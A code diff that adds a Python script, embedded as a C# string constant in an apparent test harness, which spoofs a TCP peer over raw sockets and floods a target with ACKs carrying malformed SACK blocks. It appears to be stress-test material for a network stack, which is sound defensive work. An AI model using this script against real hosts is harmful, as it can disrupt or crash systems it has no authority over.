@@ -95,4 +95,47 @@ internal static class Python
             if sender == sys.argv[1]:
                 break
         """;
+
+    /// <summary>SOURCE HOST PORT COUNT: a peer at an address that no host has, who asks for data in small segments and answers with that many ACKs whose SACK blocks are hostile.</summary>
+    public const string SackBomber = """
+        import random, socket, struct, sys, time
+        source, target, port, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
+        out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+        tap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
+        tap.settimeout(20)
+        addresses = socket.inet_aton(source) + socket.inet_aton(target)
+        def send(seq, ack, flags, window, options):
+            tcp = struct.pack("!HHIIBBHHH", 40000, port, seq & 0xffffffff, ack & 0xffffffff, (20 + len(options)) // 4 << 4, flags, window, 0, 0) + options
+            total = sum(struct.unpack(f"!{len(tcp) // 2}H", tcp)) + sum(struct.unpack("!4H", addresses)) + 6 + len(tcp)
+            while total >> 16:
+                total = (total & 0xffff) + (total >> 16)
+            tcp = tcp[:16] + struct.pack("!H", ~total & 0xffff) + tcp[18:]
+            ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0) + addresses
+            try:
+                out.sendto(ip + tcp, (target, 0))
+            except OSError:
+                pass
+        send(0, 0, 2, 65535, b"\x02\x04\x00\x40\x04\x02\x01\x01\x01\x03\x03\x07")
+        while True:
+            packet = tap.recv(2000)
+            if packet[12:16] == socket.inet_aton(target) and packet[16:20] == socket.inet_aton(source) and packet[33] == 0x12:
+                break
+        start = struct.unpack("!I", packet[24:28])[0] + 1
+        send(1, start, 16, 60000, b"")
+        tap.close()
+        chance, acknowledged = random.Random(1), 0
+        for number in range(count):
+            blocks = b""
+            for block in range(4):
+                kind = chance.randrange(4)
+                left = start + acknowledged + (2 * number + 8 * block) % 60000 if kind < 2 else start + chance.randrange(2_000_000) if kind == 2 else chance.getrandbits(32)
+                right = left + (1 if kind < 2 else chance.randrange(-50, 5000))
+                blocks += struct.pack("!II", left & 0xffffffff, right & 0xffffffff)
+            if number % 100 == 99:
+                acknowledged += 64
+            send(1, start + acknowledged, 16, chance.choice((0, 1, 500, 60000)), b"\x01\x01\x05\x22" + blocks)
+            if number % 100 == 0:
+                time.sleep(0.003)
+        print("sacks", count)
+        """;
 }
